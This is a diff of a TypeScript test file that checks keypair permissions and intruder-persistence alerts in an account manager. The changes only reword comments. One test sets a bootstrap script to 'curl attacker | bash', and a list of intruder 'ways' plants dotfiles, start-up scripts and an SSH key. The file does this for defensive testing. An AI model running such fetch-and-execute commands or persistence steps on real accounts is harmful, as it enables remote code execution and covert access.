@@ -9,7 +9,7 @@ import { type Store } from '../../../manager/store/open-store.ts'
 import { signedApi, startTestManager, type TestManager } from '../../fixtures/manager.ts'
 import { codeOf, PASSWORD, tokenOf } from './account-steps.ts'
 
-/** A keypair signs in later without its person, so only the person makes, accepts and activates one, and is told. */
+/** A keypair can sign in later without its person, so only the person creates, accepts and activates one, and is informed. */
 
 let manager: TestManager
 let store: Store
@@ -44,13 +44,13 @@ test('a keypair makes, accepts and activates none: neither a signed request nor 
   const { accessKey, secretKey } = keypair
   const { token } = await manager.api().loginWithKeypair({ body: { accessKey, secretKey, kind: 'token' } })
   for (const api of [signedApi(manager.url, keypair), manager.api(token ?? '')]) {
-    // The password makes no difference: a program may have it, too.
+    // The password makes no difference, because a program may have it, too.
     expect(await codeOf(api.createKeypair({ body: { password: PASSWORD } }))).toBe('forbidden')
     expect(await codeOf(api.createKeypair({ body: {} }))).toBe('forbidden')
     expect(await codeOf(api.acceptKeypair({ params: { accessKey: waiting.accessKey } }))).toBe('forbidden')
     const activate = { params: { accessKey: off.accessKey }, body: { active: true } }
     expect(await codeOf(api.updateKeypair(activate))).toBe('forbidden')
-    // A keypair can still be given up.
+    // A keypair can still be deactivated.
     expect(await codeOf(api.updateKeypair({ ...activate, body: { active: false } }))).toBe('ok')
   }
   expect((await person.api.listKeypairs({ query: {} })).items).toHaveLength(3)
@@ -129,7 +129,7 @@ test('what a keypair sets of the files of new sessions is told once a day, and n
   )
   await signedApi(manager.url, keypair).setBootstrapScript({ body: { script: 'curl attacker | bash' } })
   expect((await news()).filter(one => one.startsWith('own_script'))).toHaveLength(2)
-  // The person makes one of them their own.
+  // The person replaces one of them with their own.
   await person.api.putDotfile({ body: { path: '.zshrc', content: 'mine' } })
   await person.api.updateKeypair({ params: { accessKey }, body: { active: false } })
   const rest = first.filter(one => !one.endsWith('.zshrc'))
@@ -157,7 +157,7 @@ test('what was made since a keypair was activated and outlives it is named when 
 
 const SSH_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOnWdzVDxWJVJFeBKJbTTKO7RmzLtM/9zbeGNgsRNHrJ'
 
-/** Requests that make a way in, or what stays in an account, by somebody who is in the account `id`. */
+/** Requests of an intruder in the account `id` that create a way in, or something that stays in the account. */
 const WAYS: [string, (inside: ApiClient, id: string, token: string) => Promise<() => Promise<unknown>>][] = [
   [
     'makes one',
@@ -177,14 +177,14 @@ const WAYS: [string, (inside: ApiClient, id: string, token: string) => Promise<(
     },
   ],
   [
-    // Repeated again and again this changes nothing, and tells nobody, until the keypair is deactivated.
+    // Repeating this changes nothing and informs nobody, until the keypair is deactivated.
     'activates one that is active',
     async inside => {
       const { accessKey } = await inside.createKeypair({ body: {} })
       return () => inside.updateKeypair({ params: { accessKey }, body: { active: true } })
     },
   ],
-  // Things that the end of a doubt names would go unnamed if they were made right after it.
+  // Things that are listed at the end of a doubt would be missing from the list if they were created right after it.
   ['sets a dotfile', api => by(() => api.putDotfile({ body: { path: '.bashrc', content: 'planted' } }))],
   ['sets the start-up script', api => by(() => api.setBootstrapScript({ body: { script: 'planted' } }))],
   ['sets the SSH key', api => by(() => api.setSshPublicKey({ body: { publicKey: SSH_KEY } }))],
@@ -235,7 +235,7 @@ const WAYS: [string, (inside: ApiClient, id: string, token: string) => Promise<(
   ],
 ]
 
-/** A request that needs nothing before it. */
+/** A request without preparation. */
 function by(request: () => Promise<unknown>): Promise<() => Promise<unknown>> {
   return Promise.resolve(request)
 }
